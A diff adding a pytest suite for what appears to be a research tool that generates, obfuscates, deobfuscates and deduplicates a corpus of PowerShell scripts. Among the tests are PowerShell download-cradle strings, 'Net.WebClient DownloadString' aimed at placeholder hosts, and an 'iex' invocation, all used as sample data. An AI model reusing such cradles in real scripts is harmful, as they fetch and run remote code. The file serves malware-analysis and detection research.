@@ -1,0 +1,163 @@
+"""Tests for corpus generation and preprocessing (Section IV-B1)."""
+
+import random
+
+import pytest
+
+from repro.analysis import observe_behavior
+from repro.dataset import generate_corpus, preprocess
+from repro.dataset.generator import generate_sample
+from repro.dataset.preprocess import (
+    is_valid_sample,
+    structure_hash,
+)
+from repro.dataset.skeletons import SKELETONS, build_skeleton
+from repro.pslang.parser import try_parse
+
+
+class TestSkeletons:
+    @pytest.mark.parametrize("name", sorted(SKELETONS))
+    def test_clean_scripts_parse(self, name):
+        script, _truth = build_skeleton(name, random.Random(1))
+        ast, error = try_parse(script)
+        assert ast is not None, f"{name}: {error}"
+
+    @pytest.mark.parametrize("name", sorted(SKELETONS))
+    def test_ground_truth_matches_behavior(self, name):
+        script, truth = build_skeleton(name, random.Random(2))
+        report = observe_behavior(script)
+        assert report.has_network_behavior == truth.has_network, name
+
+    def test_downloader_url_recoverable(self):
+        # URLs may be split across variables (wild behaviour); the
+        # deobfuscator must be able to reassemble them.
+        from repro import deobfuscate
+
+        script, truth = build_skeleton("downloader", random.Random(3))
+        assert truth.urls
+        recovered = deobfuscate(script).script
+        for url in truth.urls:
+            assert url in recovered
+
+
+class TestGenerator:
+    def test_deterministic_for_seed(self):
+        first = generate_corpus(10, seed=5)
+        second = generate_corpus(10, seed=5)
+        assert [s.script for s in first] == [s.script for s in second]
+
+    def test_different_seeds_differ(self):
+        first = generate_corpus(10, seed=5)
+        second = generate_corpus(10, seed=6)
+        assert [s.script for s in first] != [s.script for s in second]
+
+    def test_samples_parse(self):
+        for sample in generate_corpus(30, seed=9):
+            ast, error = try_parse(sample.script)
+            assert ast is not None, f"{sample.identifier}: {error}"
+
+    def test_techniques_recorded(self):
+        sample = generate_sample(
+            "x", random.Random(4), layer_depth=1, token_count=2
+        )
+        assert sample.techniques
+        assert sample.layers == 1
+
+    def test_clean_script_kept(self):
+        sample = generate_sample("x", random.Random(4))
+        assert sample.clean_script
+        ast, _ = try_parse(sample.clean_script)
+        assert ast is not None
+
+    def test_obfuscated_sample_preserves_behavior(self):
+        # The generated obfuscation stack must be semantics-preserving.
+        for seed in range(8):
+            sample = generate_sample(
+                f"s{seed}", random.Random(seed), layer_depth=1
+            )
+            original = observe_behavior(sample.clean_script)
+            obfuscated = observe_behavior(sample.script)
+            assert (
+                original.network_signature == obfuscated.network_signature
+            ), (seed, sample.skeleton, sample.techniques)
+
+    def test_junk_fraction(self):
+        corpus = generate_corpus(10, seed=1, junk_fraction=0.5)
+        assert len(corpus) == 15
+
+
+class TestValidation:
+    def test_valid_script_kept(self):
+        ok, reason = is_valid_sample("write-host hello")
+        assert ok
+
+    def test_unterminated_rejected(self):
+        ok, reason = is_valid_sample("'unterminated")
+        assert not ok
+        assert "tokenize" in reason or "parse" in reason
+
+    def test_html_rejected(self):
+        ok, reason = is_valid_sample("<html><body>hi</body></html>")
+        assert not ok
+
+    def test_single_string_rejected(self):
+        ok, reason = is_valid_sample("'just a string'")
+        assert not ok
+        assert reason == "single string token"
+
+    def test_unknown_commands_rejected(self):
+        ok, reason = is_valid_sample("Frobnicate-Wildly now")
+        assert not ok
+        assert reason == "all commands unknown"
+
+    def test_alias_command_is_known(self):
+        ok, _ = is_valid_sample("iex 'x'")
+        assert ok
+
+
+class TestStructureDedup:
+    def test_same_structure_different_strings(self):
+        first = "(New-Object Net.WebClient).DownloadString('http://a/')"
+        second = "(New-Object Net.WebClient).DownloadString('http://b/')"
+        assert structure_hash(first) == structure_hash(second)
+
+    def test_different_structure(self):
+        first = "write-host 'x'"
+        second = "write-output 'x'"
+        assert structure_hash(first) != structure_hash(second)
+
+    def test_case_insensitive_structure(self):
+        assert structure_hash("Write-Host 'a'") == structure_hash(
+            "WRITE-HOST 'b'"
+        )
+
+
+class TestPreprocessPipeline:
+    def test_pipeline_counts(self):
+        corpus = generate_corpus(
+            30, seed=11, duplicate_fraction=0.3, junk_fraction=0.2
+        )
+        kept, stats = preprocess(corpus)
+        assert stats.input_count == len(corpus)
+        assert stats.kept == len(kept)
+        dropped = stats.input_count - stats.kept
+        assert dropped == (
+            stats.invalid_syntax
+            + stats.no_tokens
+            + stats.unknown_commands
+            + stats.invalid_command_chars
+            + stats.single_string
+            + stats.duplicates
+        )
+        assert stats.kept >= 30 * 0.8  # real samples mostly survive
+
+    def test_junk_is_dropped(self):
+        corpus = generate_corpus(5, seed=3, junk_fraction=1.0)
+        kept, stats = preprocess(corpus)
+        assert all(s.skeleton != "junk" for s in kept)
+
+    def test_exact_duplicates_removed(self):
+        corpus = generate_corpus(5, seed=4)
+        doubled = corpus + corpus
+        kept, stats = preprocess(doubled)
+        assert stats.duplicates >= len(corpus)
